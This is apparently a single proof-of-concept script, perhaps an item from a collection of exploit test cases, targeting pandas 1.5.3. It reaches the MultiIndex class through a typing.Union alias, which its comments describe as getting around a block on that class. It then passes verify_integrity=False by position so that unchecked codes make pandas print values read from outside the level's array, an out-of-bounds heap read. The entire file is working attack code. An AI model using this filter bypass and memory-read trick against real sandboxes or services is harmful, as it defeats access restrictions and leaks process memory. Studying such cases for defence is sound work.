# source: pandas 1.5.3 pandas/core/indexes/multi.py MultiIndex.__new__ (8th positional is verify_integrity; codes not range-checked when False); CPython: `X | X` of one class is X
# family: type alias of a refused class (typing.Union of the same class twice, collapsing to pd.MultiIndex) called with verify_integrity=False by position
# goal: out-of-bounds heap read: codes past the level's array are read by take (garbage floats printed)
import numpy as np
import pandas as pd
import typing
MI = typing.Union[pd.MultiIndex, pd.MultiIndex]
mi = MI([pd.Index([1.5, 2.5])], [[0, 1, 60, 100, 127]], None, None, None, False, None, False)
print("codes", mi.codes[0].tolist())
print("values read out of bounds", mi.get_level_values(0).tolist())
